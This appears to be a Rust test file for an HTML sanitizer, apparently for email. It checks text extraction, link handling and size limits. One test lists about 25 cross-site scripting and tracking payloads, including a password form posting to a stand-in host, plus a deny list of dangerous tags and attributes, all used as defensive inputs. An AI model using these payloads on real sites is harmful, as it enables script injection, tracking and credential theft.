use super::*;

fn shown(html: &str) -> String {
    safe(html).unwrap()
}

#[test]
fn texts_lists_tables_and_links_stay() {
    let html =
        "<p>A <b>bold</b> word</p><ul><li>one</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>";
    assert_eq!(shown(html), html);
    let link = shown(r#"<a href="https://example.org/a?b=1&amp;c=2">here</a>"#);
    assert!(link.contains(r#"href="https://example.org/a?b=1&amp;c=2""#), "{link}");
    assert!(link.contains("noopener") && link.contains("noreferrer"), "{link}");
}

/// Ways in which others have got a script through: each is to leave nothing behind that runs, loads or looks like a form.
#[test]
fn nothing_that_runs_or_loads_is_left() {
    let attacks = [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        r#"<img src=x onerror="alert(1)">"#,
        r#"<img src="https://spy.example.org/seen.png?who=1">"#,
        r#"<img src="//spy.example.org/seen.png">"#,
        r#"<img srcset="https://spy.example.org/a.png 2x">"#,
        r#"<a href="javascript:alert(1)">x</a>"#,
        r#"<a href="JaVa&#x09;Script:alert(1)">x</a>"#,
        r#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#,
        r#"<a href="vbscript:msgbox(1)">x</a>"#,
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
        "<style>body{background:url(https://spy.example.org)}</style>",
        r#"<p style="background:url(https://spy.example.org)">x</p>"#,
        r#"<iframe src="https://example.org"></iframe>"#,
        r#"<form action="https://spy.example.org"><input name=password></form>"#,
        r#"<object data="x.swf"></object><embed src="x.swf">"#,
        r#"<link rel="stylesheet" href="https://spy.example.org/a.css">"#,
        r#"<base href="https://spy.example.org/">"#,
        r#"<meta http-equiv="refresh" content="0;url=https://spy.example.org">"#,
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<template><img src=x onerror=alert(1)></template>",
        r#"<video src="https://spy.example.org/a.mp4" autoplay></video>"#,
        "<p onclick=alert(1) id=x>x</p>",
    ];
    let forbidden = [
        "<script",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "vbscript:",
        "data:",
        "src=\"h",
        "src=\"/",
        "srcset",
        "<svg",
        "<math",
        "<style",
        "style=",
        "<iframe",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<link",
        "<base",
        "<meta",
        "<video",
        "<template",
        "spy.example.org/seen",
    ];
    for attack in attacks {
        let left = shown(attack).to_lowercase();
        // What stands in a text between tags runs nowhere.
        let tags: Vec<&str> = left.split('<').skip(1).filter_map(|tag| tag.split('>').next()).collect();
        let tags = format!("<{}>", tags.join("><"));
        for word in forbidden {
            assert!(!tags.contains(word), "{attack} left {left}");
        }
        assert_eq!(shown(&left), left, "made safe once more it is the same: {attack}");
    }
}

#[test]
fn pictures_that_came_along_stay_and_no_link_leads_to_them() {
    assert_eq!(shown(r#"<img src="cid:plan@1" alt="The plan">"#), r#"<img src="cid:plan@1" alt="The plan">"#);
    assert_eq!(shown(r#"<img src="https://example.org/a.png" alt="The plan">"#), r#"<img alt="The plan">"#);
    assert!(!shown(r#"<a href="cid:plan@1">plan</a>"#).contains("cid:"));
}

#[test]
fn the_text_of_html_has_a_line_for_each_block() {
    let text = |html: &str| text_of(&shown(html));
    assert_eq!(
        text("<p>Good  morning,</p>\n<p>the &lt;printer&gt; is\non fire &amp; loud.</p>"),
        "Good morning,\nthe <printer> is on fire & loud."
    );
    assert_eq!(text("one<br>two<ul><li>three</li><li>four</li></ul>"), "one\ntwo\nthree\nfour");
    assert_eq!(text("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"), "a b\nc");
    assert_eq!(text("<style>p{}</style><script>x</script><!-- no -->"), "");
    assert_eq!(text("<a title='a > b' href='https://example.org'>c</a>"), "c");
    assert_eq!(text("a&nbsp;b &quot;c&quot; &euro;"), "a b \"c\" €");
    assert_eq!(text("5 < 6 and 7 > 6"), "5 < 6 and 7 > 6");
}

/// So many attributes, each with a bracket inside that ends nothing.
fn numbered(attributes: usize) -> String {
    let all: Vec<String> = (0..attributes).map(|n| format!(" a{n}='>'")).collect();
    all.concat()
}

fn refused(html: &str) -> bool {
    safe(html).is_err_and(|problem| problem.code == Code::TooLong && problem.hint.is_some())
}

#[test]
fn what_would_take_too_long_to_read_is_refused() {
    assert!(refused(&"<div>".repeat(limits::HTML_TAGS + 1)));
    assert!(refused(&"<!--</div>--><div>".repeat(limits::HTML_TAGS)));
    assert!(refused(&format!("<a {}>", "b ".repeat(limits::HTML_ATTRIBUTES + 1))));
    let numbered = numbered(limits::HTML_ATTRIBUTES + 1);
    assert!(refused(&format!("<a{numbered}>")) && refused(&format!("</a{numbered}>")));
    assert!(refused(&format!("<a{}", numbered.replace('\'', "\""))));
    assert!(refused(&format!("<a{}", numbered.replace("='>'", ""))));
    assert!(refused(&"<a/x=".repeat(limits::HTML_TAGS)), "each is a part of the one before");
    assert!(refused(&"<a x=\"'".repeat(limits::HTML_TAGS)) || !refused("<a x=\"'"));
    assert!(refused(&"x".repeat(limits::BODY_BYTES + 1)));
}

#[test]
fn what_is_allowed_at_the_most_is_read() {
    for worst in ["<div>", "<b>", "<a href='https://example.org'>", "<table>", "<i class=x></p>"] {
        let tags = worst.matches('<').count();
        let html = worst.repeat(limits::HTML_TAGS / tags);
        assert_eq!(text_of(&shown(&html)), "");
    }
    let attributes = numbered(limits::HTML_ATTRIBUTES);
    assert_eq!(shown(&format!("<p{attributes}>x</p>")), "<p>x</p>");
    let long = "word ".repeat(limits::BODY_BYTES / 5);
    assert_eq!(text_of(&shown(&long)), long.trim_end());
}
